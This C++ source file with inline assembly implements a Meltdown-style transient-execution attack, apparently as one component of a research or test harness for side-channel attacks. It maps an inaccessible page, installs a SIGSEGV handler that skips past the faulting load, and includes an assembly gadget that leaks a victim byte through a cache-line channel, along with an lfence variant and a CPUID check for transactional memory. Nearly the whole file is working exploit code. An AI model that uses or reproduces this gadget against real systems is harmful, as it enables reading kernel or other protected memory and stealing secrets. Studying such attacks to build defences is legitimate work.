// SPDX-License-Identifier: MIT
// Meltdown as published: the load faults, and until the fault is raised the instructions after it
// run on whatever the load forwarded.
#include <sys/mman.h>
#include <ucontext.h>

#include <csignal>
#include <cstdlib>

#include "guest/attacks/slow_pointer.h"
#include "guest/attacks/transient_read.h"

extern "C" {
/// slow: SlowPointer::start(). guard: read in front of the victim, so that where it may not be read
/// the victim is reached transiently only.
void transient_send(const void* slow, const std::uint8_t* guard, const std::uint8_t* victim,
                    const std::uint8_t* channel);
/// The same with a barrier in front of the sending.
void transient_send_late(const void* slow, const std::uint8_t* guard, const std::uint8_t* victim,
                         const std::uint8_t* channel);
/// A return, for either.
extern const char transient_send_end[];
}

// Three dependent misses keep the fault from being raised. The victim is read at once, which
// fetches its line, and again when the second of them is there: by then the line has come, and
// there is a whole miss left to send in. Nothing but the channel's line remembers the byte.
asm(R"(
    .macro TRANSIENT_SEND name, barrier
    .balign 64
    .globl \name, \name\()_end
    .type \name, @function
\name:
    movq (%rdi), %rdi
    movq (%rdi), %rdi
    movq (%rdi), %r8
    movzbl (%rsi), %eax
    movzbl (%rdx), %eax
    andl $0, %edi
    movzbl (%rdx,%rdi), %eax
    \barrier
    shlq $12, %rax
    movzbl (%rcx,%rax), %eax
\name\()_end:
    ret
    .size \name, . - \name
    .endm

    .pushsection .text
    TRANSIENT_SEND transient_send
    TRANSIENT_SEND transient_send_late, lfence
    .popsection
)");

namespace attacks {

namespace {

void step_over(int /*signal*/, siginfo_t* /*information*/, void* context) {
    auto* interrupted = static_cast<ucontext_t*>(context);
    interrupted->uc_mcontext.gregs[REG_RIP] = reinterpret_cast<greg_t>(transient_send_end);
}

class SignalReader final : public TransientReader {
public:
    explicit SignalReader(Sending sending)
        : send_(sending == Sending::Late ? &transient_send_late : &transient_send) {
        constexpr std::size_t page = 4096;
        void* pages = mmap(nullptr, page, PROT_NONE, MAP_PRIVATE | MAP_ANONYMOUS, -1, 0);
        struct sigaction action{};
        action.sa_sigaction = step_over;
        action.sa_flags = SA_SIGINFO;
        if (pages == MAP_FAILED || sigaction(SIGSEGV, &action, nullptr) != 0) {
            std::abort();
        }
        forbidden_ = static_cast<const std::uint8_t*>(pages);
    }

    void attempt(const Attempt& attempt) override {
        slow_.flush();
        send_(slow_.start(), attempt.victim_is_readable ? forbidden_ : &allowed_, attempt.victim,
              attempt.channel);
    }

private:
    decltype(&transient_send) send_;
    SlowPointer slow_{0};
    const std::uint8_t* forbidden_ = nullptr;
    std::uint8_t allowed_ = 0;
};

}  // namespace

std::unique_ptr<TransientReader> make_signal_reader(Sending sending) {
    return std::make_unique<SignalReader>(sending);
}

bool has_transactions() {
    constexpr std::uint32_t leaf = 7;
    constexpr std::uint32_t rtm = 1U << 11U;
    std::uint32_t highest = 0;
    std::uint32_t b = 0;
    std::uint32_t c = 0;
    std::uint32_t d = 0;
    asm volatile("cpuid" : "=a"(highest), "=b"(b), "=c"(c), "=d"(d) : "a"(0), "c"(0));
    if (highest < leaf) {
        return false;
    }
    std::uint32_t a = 0;
    asm volatile("cpuid" : "=a"(a), "=b"(b), "=c"(c), "=d"(d) : "a"(leaf), "c"(0));
    return (b & rtm) != 0;
}

}  // namespace attacks
